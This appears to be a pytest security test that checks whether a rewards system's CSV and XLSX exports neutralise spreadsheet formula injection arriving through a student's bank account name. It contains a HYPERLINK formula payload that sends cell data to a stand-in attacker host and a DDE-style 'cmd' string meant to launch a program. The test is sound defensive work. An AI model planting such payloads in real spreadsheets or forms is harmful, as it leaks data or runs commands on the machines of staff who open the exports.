"""S14: a formula an attacker controls — a student's display name (from the identity provider), and so
the account name, ``=HYPERLINK("http://evil.example/?x="&B2,"Pay")`` — goes through the whole reward flow
into the payout CSV, the history CSV and the history XLSX: 0 cells start a formula, and the XLSX holds
no ``<f>`` element (certhub_kit.exports neutralises every cell of every export)."""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile

import pytest

from certhub_kit.exports import FORMULA_STARTS, neutral_cell
from tests.support.fleet import student_claims
from tests.support.samples import certificate_png

pytestmark = pytest.mark.security
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&B2,"Pay")'
SUB = "s1109914"  # a student of its own: no other security test touches its records
CLAIMS = student_claims(SUB, PAYLOAD)


def test_neutral_cell_follows_owasp() -> None:
    assert neutral_cell(PAYLOAD) == "'" + PAYLOAD
    for start in FORMULA_STARTS:
        assert neutral_cell(f"{start}1+1 cmd|' /C calc'!A0").startswith("'")
    assert neutral_cell("-5000") == "-5000" and neutral_cell("+886.5") == "+886.5" and neutral_cell(-3) == -3
    assert neutral_cell("王小明") == "王小明" and neutral_cell(None) == ""


async def _paid_for_by_a_formula(fleet) -> str:
    application = await fleet.applied_as(CLAIMS, "gept", "中級", "全民英檢中級或同等級英語檢定")
    async with fleet.as_claims("rewards", CLAIMS) as student:
        saved = await student.put(
            f"/api/rewards/applications/{application}/bank-account",
            data={
                "method": "bank",
                "code": "0040174",
                "account_no": "123456789012",
                "account_name": PAYLOAD,
                "postal_code": "900",
                "address": "屏東縣屏東市民生路4-18號",
            },
            files={"passbook": ("passbook.png", certificate_png(14), "image/png")},
        )
        assert saved.status_code == 200, saved.text
    await fleet.reviewed(application, first="rev-ee")
    return application


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(body: bytes) -> tuple[list[str], int]:
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
        shared = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else ""
    formulas = sum(len(re.findall(r"<f[ >]", sheet)) for sheet in sheets)
    texts = re.findall(r"<t[^>]*>([^<]*)</t>", shared + "".join(sheets))
    return [html.unescape(t) for t in texts], formulas


async def test_s14_no_export_cell_starts_a_formula(fleet) -> None:
    application = await _paid_for_by_a_formula(fleet)
    async with fleet.client("rewards", "center") as centre:
        batch = await centre.post("/api/rewards/payouts", json={"application_ids": [application]})
        assert batch.status_code == 201, batch.text
        payout = await centre.get(f"/api/rewards/payouts/{batch.json()['id']}/export.csv")
        history = await centre.get("/api/rewards/applications/export.csv", params={"student": SUB})
        workbook = await centre.get("/api/rewards/applications/export.xlsx", params={"student": SUB})
    assert payout.status_code == history.status_code == workbook.status_code == 200
    xlsx_cells, formulas = _xlsx_cells(workbook.content)
    exports = {
        "CSV payout": _csv_cells(payout.content),
        "CSV history": _csv_cells(history.content),
        "XLSX history": xlsx_cells,
    }
    cells = sum(len(v) for v in exports.values())
    live = [
        (name, c)
        for name, values in exports.items()
        for c in values
        if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", c)
    ]
    carried = sum(c.lstrip("'")[1:] == PAYLOAD[1:] for values in exports.values() for c in values)
    print(
        f"\nS14: {len(live)}/{cells} export cells start a formula ({', '.join(exports)}), "
        f"{formulas} <f> elements in the XLSX; the payload is shown quoted in {carried} cells"
    )
    assert carried >= 3, "the payload must reach every export, quoted"
    assert not live and formulas == 0, live
